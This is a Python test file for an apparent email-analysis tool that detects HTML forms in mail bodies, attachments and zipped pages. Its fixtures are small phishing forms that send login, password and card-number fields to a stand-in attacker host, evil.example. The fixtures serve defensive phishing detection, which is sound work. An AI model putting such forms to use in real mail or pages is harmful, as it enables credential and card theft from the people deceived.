"""Forms a mail brings along."""

from __future__ import annotations

import base64

import pytest
from tests.observe.test_archives import packed
from tests.observing import observed

from gyotaku.model.facts import Form

HEAD = "From: a@a.example\nMIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit\n{}\n"


def test_form_in_the_body() -> None:
    """A form says where it sends to, by which method, and what it asks for."""
    html = (
        '<form action="https://evil.example/p.php" method="POST"><input type="hidden" name="k" value="1">'
        '<input name="email" type="email"><input name="pw" type="password"><input type="submit"></form>'
    )
    found = observed(HEAD.format("") + html, "forms").first(Form)
    assert found is not None
    form = found[0]
    assert (form.action, form.method, form.host, form.place) == ("https://evil.example/p.php", "post", "evil.example", "body")
    assert form.asks == ("login", "password")


def test_attached_form() -> None:
    """A form in an attached page is told from one in the body."""
    html = '<form action="https://evil.example/"><input name="card_number"></form>'
    found = observed(HEAD.format("Content-Disposition: attachment; filename=a.html\n") + html, "forms").first(Form)
    assert found is not None
    assert (found[0].place, found[0].asks) == ("attachment", ("card",))


def test_form_without_fields() -> None:
    """A form that a reader cannot fill in is none."""
    assert (
        observed(HEAD.format("") + '<form action="https://a.example/"><input type="submit"></form>', "forms").first(Form) is None
    )


@pytest.mark.parametrize("zipped", [True, False])
def test_form_of_a_page_inside_a_file(*, zipped: bool) -> None:
    """A page in an archive, and one sent as mere bytes, show their form as an attached page does."""
    page = (
        b"<html><form action='https://evil.example/p' method=post><input name=user type=email><input type=password></form></html>"
    )
    content = packed({"a/login.html": page}) if zipped else page
    head = (
        "Content-Type: application/octet-stream; name=a.bin\nContent-Disposition: attachment\nContent-Transfer-Encoding: base64"
    )
    mail = f"From: a@a.example\nMIME-Version: 1.0\n{head}\n\n{base64.b64encode(content).decode()}\n"
    found = observed(mail, "body", "files", "forms").first(Form)
    assert found is not None
    assert (found[0].action, found[0].place, found[0].asks) == ("https://evil.example/p", "attachment", ("login", "password"))
